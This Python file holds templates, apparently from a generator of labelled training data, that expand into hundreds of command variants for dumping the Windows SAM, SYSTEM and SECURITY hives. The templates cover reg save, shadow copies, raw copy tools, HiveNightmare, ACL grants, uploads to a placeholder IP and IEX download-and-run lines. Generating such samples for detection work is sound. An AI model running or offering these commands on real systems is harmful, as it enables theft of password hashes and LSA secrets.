"""More phrasings of T1003.002 by Windows' own means: hives saved, copied, read; every means by several ways."""

from __future__ import annotations

from training.generators.grammar import parse_templates

# SECURITY alone holds the LSA secrets: T1003.004.
HIVE_TEMPLATES = parse_templates(
    r"""
reg-save-cmd cmd: cmd.exe /c "reg save ‹hklm›\«SAM¦SYSTEM» ‹file›"
reg-save-cmd-security cmd +T1003.004: cmd.exe /c "reg save ‹hklm›\SECURITY ‹file›"
reg-save-start cmd: start /b «/min ¦»reg save ‹hklm›\«sam¦system» ‹file›
reg-save-three cmd: reg save ‹hklm›\sam ‹file› /y & reg save ‹hklm›\security ‹file› /y & reg save ‹hklm›\system ‹file› /y
reg-save-packed cmd: reg save ‹hklm›\sam ‹dir›\‹name› & «makecab ‹dir›\‹name› ‹dir›\‹name›.cab¦7z a ‹dir›\‹name›.zip ‹dir›\‹name›¦certutil -encode ‹dir›\‹name› ‹dir›\‹name›.b64¦tar -cf ‹name›.tar ‹dir›\‹name›»
reg-save-upload cmd: reg save ‹hklm›\«SAM¦SYSTEM» ‹dir›\‹name›.hiv && «curl -T ‹dir›\‹name›.hiv http://‹ip›/¦curl -F "f=@‹dir›\‹name›.hiv" http://‹ip›/u¦copy ‹dir›\‹name›.hiv \\‹ip›\share»
reg-save-view cmd: reg save ‹hklm›\«SAM¦SYSTEM» ‹file› «/reg:64¦/reg:32» /y
reg-save-python cmd: «python¦py -3» -c "import os; os.system(r'reg save HKLM\SAM ‹file›')"
reg-save-vbs text: CreateObject("WScript.Shell").Run "reg save HKLM\«SAM¦SYSTEM» ‹dir›\‹name›.hiv", 0, True
reg-save-sql text: EXEC xp_cmdshell 'reg save HKLM\«SAM¦SYSTEM» ‹dir›\‹name›.hiv';
reg-save-atexec bash: «atexec.py¦wmiexec.py¦smbexec.py¦impacket-wmiexec» ‹domain›/‹user›:'‹pass›'@‹ip› 'reg save HKLM\«SAM¦SYSTEM» C:\‹name›.hiv'
reg-export-loop cmd: for %h in (SAM SYSTEM SECURITY) do reg export HKLM\%h ‹dir›\%h.reg /y
reg-export-unc cmd: reg export ‹hklm›\«SAM¦SAM\SAM» \\‹server›\«c$¦share¦temp»\‹name›.reg
reg-export-ps powershell: «reg¦reg.exe¦& reg» export 'HKLM\«SAM¦SAM\SAM\Domains»' "$env:TEMP\‹name›.reg" /y
reg-export-psexec cmd: «psexec¦PsExec64.exe» -s «-accepteula ¦»reg export HKLM\SAM ‹file›
reg-query-sam-out cmd: reg query ‹hklm›\SAM\SAM\Domains\Account\Users /s > ‹file›
reg-query-sam-rid cmd: reg query ‹hklm›\SAM\SAM\Domains\Account\Users\00000«1F4¦1F5¦3E8¦3E9» /v «V¦F»
reg-query-sam-names cmd +T1087.001: reg query ‹hklm›\SAM\SAM\Domains\Account\Users\Names«¦ /s»
reg-query-sam-psexec cmd: «psexec¦PsExec64.exe» «-accepteula ¦»-s reg query HKLM\SAM\SAM\Domains\Account«\Users¦» /s
reg-query-sam-builtin cmd: reg query ‹hklm›\SAM\SAM\Domains\Builtin\Aliases«\Members¦» /s
reg-query-policy-psexec cmd +T1003.004: psexec -s reg query HKLM\SECURITY\Policy\«Secrets¦PolEKList¦PolSecretEncryptionKey» /s
reg-query-policy-out cmd +T1003.004: reg query ‹hklm›\SECURITY\Policy\«Secrets¦Secrets\DPAPI_SYSTEM\CurrVal¦PolEKList¦Secrets\DefaultPassword\CurrVal» /ve > ‹file›
reg-query-policy-find cmd +T1003.004: reg query ‹hklm›\SECURITY\Policy\Secrets | findstr /i "_SC_ DefaultPassword«¦ DPAPI_SYSTEM¦ $MACHINE.ACC»"
reg-query-policy-cmd cmd +T1003.004: cmd /c "reg query HKLM\SECURITY\Policy\Secrets\«DefaultPassword¦DPAPI_SYSTEM¦_SC_‹name›¦$MACHINE.ACC»\«CurrVal¦OldVal»"
reg-query-bootkey-loop cmd: for %k in (JD Skew1 GBG Data) do reg query HKLM\SYSTEM\CurrentControlSet\Control\Lsa\%k & reg save HKLM\SAM ‹file›
reg-query-bootkey-ps powershell: "JD","Skew1","GBG","Data" | % { (Get-Item "HKLM:\SYSTEM\CurrentControlSet\Control\Lsa\$_").Handle }; reg save HKLM\SAM ‹file›
reg-bootkey-class powershell: [‹Word›.Native]::RegQueryInfoKey($h, $class, [ref]$n, 0, 0, 0, 0, 0, 0, 0, 0, 0); 'JD','Skew1','GBG','Data' # bootkey
reg-bootkey-python bash: python3 -c "from impacket.examples.secretsdump import LocalOperations; print(LocalOperations('‹lfile›').getBootKey())"
reg-bootkey-get powershell: «$bootkey = Get-BootKey¦$k = Get-BootKey; $h = Get-HBootKey $k»; Get-UserHashes «$bootkey¦$h»
reg-bootkey-script powershell: function Get-HBootKey { param([byte[]]$bootkey) $k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey("SAM\SAM\Domains\Account"); $F = $k.GetValue("F") }
reg-bootkey-hashes powershell: Get-UserKeys | % { Get-UserHashes $_ $hbootkey } # «bootkey ‹hash›¦SAM\SAM\Domains\Account»
reg-acl-regini cmd: regini ‹dir›\‹name›.txt & reg query HKLM\SAM\SAM
reg-acl-subinacl cmd: «subinacl¦subinacl.exe» /«subkeyreg¦keyreg» HKEY_LOCAL_MACHINE\SAM\SAM /grant=«‹user›¦administrators»=f
reg-acl-setacl cmd: «setacl¦SetACL.exe¦‹dir›\SetACL64.exe» -on "HKLM\SAM\SAM\Domains" -ot reg -actn «ace -ace "n:‹user›;p:read"¦setowner -ownr "n:administrators"»
reg-acl-setacl-security cmd +T1003.004: «setacl.exe¦SetACL.exe» -on "HKLM\SECURITY\Policy\Secrets" -ot reg -actn ace -ace "n:‹user›;p:full"
reg-acl-ps powershell: $a = Get-Acl HKLM:\SAM\SAM; $a.AddAccessRule((New-Object System.Security.AccessControl.RegistryAccessRule '‹user›','«FullControl¦ReadKey»','ContainerInherit','None','Allow')); $a | Set-Acl HKLM:\SAM\SAM
reg-load-copy cmd: reg load HKU\‹name› ‹dir›\«SAM¦sam.hiv¦sam.save»
reg-load-query cmd: reg load HKLM\‹name› ‹dir›\SAM & reg query HKLM\‹name›\SAM\Domains\Account\Users /s
reg-load-ps powershell: reg load «HKU¦HKLM»\‹name› «E¦F¦D»:\Windows\System32\config\SAM; gci Registry::HKLM\‹name›\SAM
reg-load-shadow cmd: reg load HKLM\‹name› ‹vss›\Windows\System32\config\SAM & reg save HKLM\‹name› ‹file›
reg-restore-sam cmd: reg restore HKLM\‹name› ‹dir›\«sam.hiv¦sam.save¦SAM»
reg-copy-remote cmd: reg copy \\‹server›\HKLM\SAM\SAM HKLM\SOFTWARE\‹Word› /s
reg-copy-hkcu cmd: reg copy HKLM\SAM HKCU\Software\‹name› /s /f
reg-copy-psexec cmd: psexec -s reg copy HKLM\SAM\SAM HKLM\SOFTWARE\‹name› /s /f
reg-copy-ps powershell: Copy-Item -Path HKLM:\SAM\SAM -Destination HKLM:\SOFTWARE\‹name› -Recurse
regedit-export-start cmd: start /wait regedit «/e¦/E¦-e» ‹file› "HKEY_LOCAL_MACHINE\SAM\SAM\Domains"
regedit-export-psexec cmd: «psexec¦PsExec64.exe» -s -i regedit«.exe¦» «/e¦/s /e» ‹file› "HKEY_LOCAL_MACHINE\SAM"
regedit-export-ps powershell: Start-Process regedit«.exe¦» -ArgumentList '/e','‹file›','HKEY_LOCAL_MACHINE\SAM\SAM' -Wait
regedit-export-cmd cmd: cmd /c regedit /e "‹dir›\‹name›.reg" HKEY_LOCAL_MACHINE\SAM
vssadmin-copy-both cmd: vssadmin create shadow /for=C: & copy ‹vss›\Windows\System32\config\SAM ‹dir› & copy ‹vss›\Windows\System32\config\SYSTEM ‹dir›
vssadmin-list-copy cmd: vssadmin list shadows & «copy¦xcopy /y¦esentutl /y» ‹vss›\Windows\System32\config\SAM ‹file›
vssadmin-copy-delete cmd: copy ‹vss›\Windows\System32\config\SAM ‹file› & vssadmin delete shadows /for=C: /quiet
vssadmin-remote cmd: wmic /node:‹server› process call create "cmd /c vssadmin create shadow /for=C: & copy ‹vss›\Windows\System32\config\SAM C:\‹name›"
vssadmin-psexec cmd: psexec \\‹server› -s cmd /c "vssadmin create shadow /for=C: && copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» C:\‹name›"
vss-ps-cmd powershell: cmd /c «copy ‹vss›\Windows\System32\config\SAM ‹dir›\‹name›¦"type ‹vss›\Windows\System32\config\SAM > ‹dir›\‹name›"»
vss-link-sam cmd: mklink /«d¦j» ‹dir›\‹name› ‹vss›\ & type ‹dir›\‹name›\Windows\System32\config\SAM > ‹file›
vss-link-ps powershell: cmd /c mklink /d C:\‹name› "‹vss›\"; Copy-Item C:\‹name›\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
vss-link-xcopy cmd: mklink /d C:\‹name› ‹vss›\ & xcopy /h C:\‹name›\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
vss-subst cmd: «subst X: ‹vss›\ & copy X:\¦subst Z: ‹vss›\ & copy Z:\»Windows\System32\config\SAM ‹file›
vss-time-unc cmd: copy "\\«localhost¦127.0.0.1¦‹server›»\C$\@GMT-2024.01.0‹n›-10.0‹n›.00\Windows\System32\config\«SAM¦SYSTEM»" ‹file›
vss-smb-unix bash: smbclient //‹ip›/C$ -U '‹user›%‹pass›' -c 'get @GMT-2024.01.0‹n›-10.00.00/Windows/System32/config/«SAM¦SYSTEM» ‹name›'
vss-cim powershell: Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'}; [IO.File]::Copy('‹vss›\Windows\System32\config\«SAM¦SYSTEM»', '‹dir›\‹name›')
vss-loop-ps powershell: foreach ($s in Get-CimInstance Win32_ShadowCopy) { [System.IO.File]::Copy("$($s.DeviceObject)\Windows\System32\config\SAM", "‹dir›\‹name›") }
vss-exists cmd: if exist ‹vss›\Windows\System32\config\SAM copy ‹vss›\Windows\System32\config\SAM ‹file›
vss-wmic-delete cmd: wmic shadowcopy call create Volume=C:\ && «esentutl /y¦copy¦xcopy» ‹vss›\Windows\System32\config\SAM ‹file›
vss-wmic-node cmd: wmic /node:‹server› shadowcopy call create Volume='C:\' & copy \\‹server›\C$\‹name›\Windows\System32\config\SAM ‹file›
vss-vshadow cmd: vshadow«.exe¦» -p «-nw ¦»C: & copy ‹vss›\Windows\System32\config\SAM ‹file›
vss-vshadow-exec cmd: vshadow.exe -exec=‹dir›\‹name›.cmd C: & copy «Z¦X»:\Windows\System32\config\SAM ‹dir›
vss-vshadow-mount cmd: vshadow -el=‹guid›,«X: & xcopy X¦Z: & xcopy Z»:\Windows\System32\config\SAM ‹dir›
vss-vshadow-ps powershell: & ‹dir›\vshadow.exe -p C:; cmd /c copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» ‹file›
vss-vshadow-list cmd: vshadow -q & copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» ‹file›
vss-own cmd: cscript «//nologo ¦»vssown.vbs /create «c ¦»& copy ‹vss›\Windows\System32\config\SAM ‹file›
diskshadow-script cmd: (echo set context persistent nowriters & echo add volume c: alias cdrive & echo create & echo expose %cdrive% z:) > ‹name›.txt & diskshadow /s ‹name›.txt & copy z:\Windows\System32\config\SAM ‹dir›
diskshadow-esentutl cmd: diskshadow.exe /s ‹file› & esentutl /y «z¦x»:\windows\system32\config\sam /d ‹file›
diskshadow-robocopy cmd: diskshadow /s ‹dir›\‹name›.«txt¦dsh» & robocopy «z¦x¦p»:\Windows\System32\config ‹dir› SAM SYSTEM
diskshadow-ps powershell: diskshadow /s ‹dir›\‹name›.«txt¦dsh»; Copy-Item «Z¦X»:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
diskshadow-text text: DISKSHADOW> exec "cmd.exe" /c copy «z¦x¦p»:\windows\system32\config\«sam¦system» ‹dir›\‹name›
esentutl-mix cmd: «esentutl¦esentutl.exe¦‹system32›\esentutl.exe» «/y /vss¦/vss /y» "‹config›\SAM" /d "‹file›"
esentutl-cmd cmd: cmd /c esentutl.exe /y /vss ‹config›\«SAM¦SYSTEM» /d ‹dir›\‹name› /o
esentutl-ps powershell: esentutl«.exe¦» /y /vss «$env:windir¦C:\Windows»\System32\config\«SAM¦SYSTEM» /d ‹file›
esentutl-short cmd: esentutl.exe /y ‹config›\SAM /vssrec ‹name› «. ¦»/d ‹file›
esentutl-psexec cmd: psexec \\‹server› -s esentutl /y /vss C:\Windows\System32\config\SAM /d C:\‹name›
copy-repair-xcopy cmd: «xcopy /y¦copy /y¦move» «C:\Windows\Repair¦%windir%\repair¦%SystemRoot%\System32\config\RegBack»\SAM ‹file›
copy-repair-ps powershell: Copy-Item «$env:windir\repair\sam¦C:\Windows\System32\config\RegBack\SAM¦C:\Windows\Repair\SAM» ‹dir›
copy-repair-unc cmd: copy \\‹server›\«c$\Windows\repair\sam¦admin$\repair\sam¦C$\Windows\System32\config\RegBack\SAM» ‹dir›
copy-repair-type cmd: type C:\Windows\«System32\config\RegBack\SAM¦repair\sam» > ‹file›
copy-repair-old cmd: copy C:\Windows.old\Windows\System32\config\«SAM¦RegBack\SAM» ‹file›
copy-regback-both cmd: xcopy C:\Windows\System32\config\RegBack\«SAM ‹dir› & xcopy C:\Windows\System32\config\RegBack\SYSTEM ‹dir›¦S* ‹dir› & dir ‹dir›\SAM»
copy-config-cmd cmd: cmd /c «copy¦xcopy /h¦copy /b» ‹config›\SAM ‹file›
copy-config-unc cmd: ««copy¦xcopy» \\‹server›\«c$\Windows\System32\config\SAM¦admin$\System32\config\SAM» ‹dir›¦robocopy \\‹server›\«c$\Windows\System32\config¦admin$\System32\config» ‹dir› SAM»
copy-config-robocopy cmd: robocopy /b ‹config› ‹dir› SAM«¦ SYSTEM¦ SECURITY SYSTEM»
copy-config-backup powershell: [IO.File]::«ReadAllBytes¦OpenRead¦Open»("C:\Windows\System32\config\SAM"«, 'Open', 'Read'¦»)
copy-offline cmd: «copy E:\Windows\System32\config\SAM ‹dir› & copy E:\Windows\System32\config\SYSTEM ‹dir›¦copy «D¦E¦F»:\Windows\System32\config\SAM ‹file›»
copy-vhd powershell: Mount-«VHD¦DiskImage» -Path ‹dir›\‹name›.vhdx; Copy-Item «E¦F¦G»:\Windows\System32\config\SAM ‹dir›
raw-copy-plain cmd: «RawCopy¦RawCopy64¦‹dir›\RawCopy64».exe /FileNamePath:«C:0¦‹config›\SAM» /OutputPath:‹dir› /OutputName:SAM
raw-copy-two cmd: RawCopy«64¦».exe /FileNamePath:C:\WINDOWS\system32\config\SAM /OutputPath:‹dir› & RawCopy.exe /FileNamePath:C:\WINDOWS\system32\config\SYSTEM /OutputPath:‹dir›
raw-copy-positional cmd: ‹dir›\RawCopy«64¦».exe C:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
raw-copy-ps powershell: & ‹dir›\RawCopy«64¦».exe /FileNamePath:$env:windir\System32\config\SAM /OutputPath:$env:TEMP
raw-copy-psexec cmd: psexec \\‹server› -c RawCopy.exe /FileNamePath:C:\Windows\System32\config\SAM /OutputPath:C:\Temp
raw-handy cmd: forecopy_handy«.exe¦» «-f C:\Windows\System32\config\SAM¦-f %SystemRoot%\System32\config\SAM¦-g» ‹dir›
raw-handy-path cmd: ‹dir›\forecopy_handy.exe -f ‹config›\SAM ‹dir›
raw-handy-cmd cmd: cmd /c forecopy_handy -f C:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
raw-handy-ps powershell: & ‹dir›\«forecopy_handy.exe -f C:\Windows\System32\config\SAM ‹dir›¦hobocopy.exe C:\Windows\System32\config ‹dir› SAM¦HoboCopy.exe /y C:\Windows\System32\config ‹dir› SAM»
raw-hobocopy cmd: «hobocopy¦HoboCopy.exe¦hobocopy64.exe» «/full ¦/y ¦»C:\Windows\System32\config ‹dir› SAM
raw-hobocopy-path cmd: ‹dir›\hobocopy.exe "C:\Windows\System32\config" "‹dir›" SAM SYSTEM
raw-hobocopy-cmd cmd: cmd /c hobocopy /skipdenied ‹config› ‹dir› SAM
raw-shadowspawn cmd: ShadowSpawn«.exe¦» C:\Windows\System32\config «Q: robocopy Q:¦Z: robocopy Z:» ‹dir› SAM SYSTEM
raw-tsk bash: «icat -o 2048 ‹lfile› 4‹pid› > SAM¦fls -r ‹lfile› | grep config/SAM¦icat /dev/sda2 ‹pid› > ‹ldir›/SAM»
raw-mount-ntfs bash: «ntfscat /dev/sda2 Windows/System32/config/SAM > ‹lfile›¦ntfscp /dev/sda2 Windows/System32/config/SAM¦mount -t ntfs-3g -o ro /dev/sda2 /mnt/‹word› && cp /mnt/‹word›/Windows/System32/config/SAM .»
ninjacopy-import powershell: Import-Module «.\¦‹dir›\»Invoke-NinjaCopy.ps1; Invoke-NinjaCopy -Path C:\Windows\System32\config\«SAM¦SYSTEM» -LocalDestination ‹file›
ninjacopy-iex powershell: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-NinjaCopy.ps1'); Invoke-NinjaCopy -Path "C:\Windows\System32\config\SAM" -RemoteDestination "‹dir›\‹name›"
ninjacopy-cmd cmd: powershell -ep bypass -c ". .\Invoke-NinjaCopy.ps1; Invoke-NinjaCopy -Path C:\Windows\System32\config\«SAM¦SYSTEM» -LocalDestination ‹dir›\‹name›"
ninjacopy-stealth powershell: Invoke-NinjaCopy -Path C:\Windows\System32\config\sam -ComputerName «(gc ‹name›.txt)¦‹server›,‹server›» -LocalDestination ‹dir›
wbadmin-recover cmd: wbadmin start recovery -version:01/0‹n›/2024-10:00 -itemtype:File -items:C:\Windows\System32\config\«SAM¦SYSTEM» -recoverytarget:‹dir› -quiet
wbadmin-include cmd: wbadmin start backup «-quiet ¦»-backuptarget:\\‹server›\‹project› -include:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM
wbadmin-folder cmd: wbadmin start backup -backuptarget:E: -include:C:\Windows\System32\config -quiet & copy E:\WindowsImageBackup\SAM ‹dir›
wbadmin-ps powershell: wbadmin start recovery -itemtype:File -items:C:\Windows\System32\config\SAM -recoverytarget:‹dir› -quiet
wbadmin-cmd cmd: cmd /c "wbadmin start backup -backuptarget:E: -include:%SystemRoot%\System32\config\SAM -quiet"
ntbackup-repair cmd: ntbackup backup systemstate /F ‹file› & «copy¦xcopy» C:\Windows\repair\«sam¦system» ‹dir›
ntbackup-start cmd: start /b ntbackup.exe backup systemstate /J "‹name›" /F "‹file›" & type C:\Windows\repair\sam > ‹file›
ntbackup-psexec cmd: psexec \\‹server› ntbackup backup systemstate /F C:\‹name›.bkf & copy \\‹server›\c$\windows\repair\sam ‹dir›
ntbackup-unc cmd: ntbackup backup systemstate /F \\‹server›\‹project›\‹name›.bkf & copy %windir%\repair\sam ‹dir›
makecab-hive cmd: makecab «‹dir›\sam.«hiv¦save¦hive»¦‹config›\SAM¦‹vss›\Windows\System32\config\SAM» ‹dir›\‹name›.cab
makecab-two cmd: makecab ‹vss›\Windows\System32\config\SAM ‹file› & makecab ‹vss›\Windows\System32\config\SYSTEM ‹file›
archive-hives cmd: «rar a -hp‹pass› ‹name›.rar¦"C:\Program Files\7-Zip\7z.exe" a ‹name›.7z¦7z a -p‹pass› ‹name›.zip¦tar -czf ‹name›.tgz» ‹dir›\sam.«hiv¦save¦hive» ‹dir›\system.«hiv¦save¦hive»
archive-hives-ps powershell: Compress-Archive -Path ‹dir›\sam.«hiv¦save¦hive»,‹dir›\system.«hiv¦save¦hive» -DestinationPath ‹dir›\‹name›.zip
certutil-hive cmd: certutil «-f -encodehex¦-encode¦-f -encode» «‹config›\SAM¦‹dir›\sam.«hiv¦save¦hive»» ‹file›
certutil-hive-ps powershell: [Convert]::ToBase64String([IO.File]::ReadAllBytes('‹dir›\sam.«hiv¦save¦hive»')) | Out-File ‹file›
upload-hive cmd: «curl -T ‹dir›\sam.«hiv¦save¦hive» ftp://‹ip›/¦bitsadmin /transfer ‹name› /upload http://‹ip›/u ‹dir›\sam.«hiv¦save»¦copy ‹dir›\sam.«hiv¦save» \\‹ip›\share¦xcopy ‹dir›\sam.«hiv¦save» \\tsclient\C»
upload-hive-ps powershell: «Invoke-WebRequest¦iwr¦Invoke-RestMethod» -Uri http://‹ip›/‹name› -Method «Post¦Put» -InFile ‹dir›\«sam.hiv¦sam.save¦SAM»
icacls-sam-out cmd: «icacls¦icacls.exe» «C:\Windows\System32\config\SAM > ‹file›¦%windir%\system32\config\sam | findstr /i users¦C:\Windows\System32\config\SAM C:\Windows\System32\config\SYSTEM»
icacls-sam-ps powershell: «icacls¦Get-Acl¦(Get-Acl» C:\Windows\System32\config\SAM«).Access¦ | fl¦»
icacls-sam-grant cmd: icacls C:\Windows\System32\config\SAM /grant «‹user›¦Everyone»:F
icacls-sam-cmd cmd: cmd /c icacls %SystemRoot%\System32\config\*.* & icacls ‹config›\SAM
takeown-sam cmd: takeown /f ‹config›\SAM«¦ /a» & copy ‹config›\SAM ‹file›
nightmare-name cmd: «‹dir›\¦.\»«HiveNightmare¦SeriousSam¦ShadowSteal¦CVE-2021-36934¦hive».exe
nightmare-out cmd: «HiveNightmare¦SeriousSam¦shadowsteal» > ‹file› & dir «SAM-haxx¦SAM-20*¦Sam.hive*»
nightmare-ps powershell: «Invoke-HiveNightmare -path "‹dir›"¦. .\HiveNightmare.ps1; Invoke-HiveNightmare¦.\SeriousSam.ps1¦.\CVE-2021-36934.ps1»
nightmare-iex powershell: IEX (iwr http://‹ip›/«Invoke-HiveNightmare¦SeriousSam¦CVE-2021-36934¦ShadowSteal».ps1)
nightmare-copy cmd: copy \\‹server›\‹project›\«HiveNightmare¦SeriousSam¦ShadowSteal¦CVE-2021-36934».exe ‹dir› & ‹dir›\«HiveNightmare¦SeriousSam¦ShadowSteal».exe
nightmare-python cmd: «python¦py» ‹dir›\«hivenightmare¦serioussam¦shadowsteal¦cve-2021-36934».py
dotnet-open powershell: [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SAM\SAM\Domains\Account\Users').«GetSubKeyNames()¦OpenSubKey('Names').GetSubKeyNames()»
dotnet-open-base powershell: [Microsoft.Win32.RegistryKey]::OpenBaseKey('LocalMachine','Registry64').OpenSubKey('SAM\SAM\Domains\Account«\Users\000001F4¦»').GetValue('«V¦F»')
dotnet-remote powershell: [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','‹ip›').OpenSubKey('SAM\SAM\Domains\Account').«GetValue('F')¦GetSubKeyNames()»
dotnet-remote-secrets powershell +T1003.004: [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','‹server›').OpenSubKey('SECURITY\Policy\Secrets').GetSubKeyNames()
dotnet-getvalue powershell: [Microsoft.Win32.Registry]::GetValue('HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account«¦\Users\000001F4»','«F¦V»',$null)
stdreg-cim powershell: Invoke-CimMethod -ClassName StdRegProv -Namespace root/default -MethodName «EnumKey -Arguments @{hDefKey=[uint32]2147483650;sSubKeyName='SAM\SAM\Domains\Account\Users'}¦GetBinaryValue -Arguments @{hDefKey=[uint32]2147483650;sSubKeyName='SAM\SAM\Domains\Account';sValueName='F'}»
stdreg-wmi powershell: Invoke-WmiMethod -Namespace root\default -Class StdRegProv -Name «EnumKey¦GetBinaryValue» -ArgumentList 2147483650,"SAM\SAM\Domains\Account"«,"F"¦» -ComputerName ‹server›
stdreg-gwmi powershell: (gwmi -List -Namespace root\default -ComputerName ‹server› StdRegProv).«EnumKey¦GetBinaryValue»(2147483650,'SAM\SAM\Domains\Account\Users'«,'V'¦»)
stdreg-vbs text: GetObject("winmgmts:\\‹server›\root\default:StdRegProv").«EnumKey¦GetBinaryValue» &H80000002, "SAM\SAM\Domains\Account\Users", a
stdreg-wmic cmd: wmic /namespace:\\root\default /node:‹server› class StdRegProv call «EnumKey¦GetBinaryValue» hDefKey="&H80000002" sSubKeyName="SAM\SAM\Domains\Account"
stdreg-secrets powershell +T1003.004: ([wmiclass]'root\default:StdRegProv').EnumKey(2147483650,'SECURITY\Policy\Secrets')
native-save text: RegSaveKey«Ex¦»«W¦A¦»(hKey, L"«C:\\Temp\\‹name›¦‹name›.hiv»", NULL«, 1¦»); // «HKLM\\SAM¦SAM¦SYSTEM and SAM»
native-open text: RegOpenKeyEx«W¦A¦»(HKEY_LOCAL_MACHINE, L"SAM\\SAM\\Domains\\Account«¦\\Users»", REG_OPTION_BACKUP_RESTORE, KEY_READ, &hKey); RegQueryInfoKey(hKey)
native-python cmd: «python¦py» -c "import win32api, win32con; win32api.RegSaveKey(win32api.RegOpenKeyEx(win32con.HKEY_LOCAL_MACHINE, 'SAM'), r'‹dir›\‹name›', None)"
native-winreg cmd: «python¦py» -c "import winreg; winreg.SaveKey(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, 'SAM'), r'‹dir›\‹name›.hiv')"
native-winreg-loop cmd: «python¦py» -c "import winreg; [winreg.SaveKey(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, h), h + '.hiv') for h in ('SAM','SYSTEM','SECURITY')]"
native-ps-save powershell: [«Win32.AdvApi32¦‹Word›.NativeMethods¦Advapi32»]::RegSaveKey«Ex¦»($hSam, "‹dir›\sam.«hiv¦save¦hive»", [IntPtr]::Zero«, 2¦»)
native-ps-backup powershell: Enable-Privilege SeBackupPrivilege; [‹Word›.AdvApi32]::RegOpenKeyEx([UIntPtr]2147483650, "SAM", 4, 0x20019, [ref]$h); [‹Word›.AdvApi32]::RegSaveKey($h, "‹file›", 0)
native-ps-type powershell: Add-Type -MemberDefinition '[DllImport("advapi32.dll")] public static extern int «RegOpenKeyEx¦RegQueryInfoKey¦RegSaveKeyEx»(IntPtr h, string k, int o, int s, out IntPtr r);' -Name ‹Word› -Namespace Sam; # SAM\SAM\Domains\Account
native-offreg powershell: [OffReg]::«OROpenHive¦ORCreateHive»('‹vss›\Windows\System32\config\SAM', [ref]$h)
"""
)
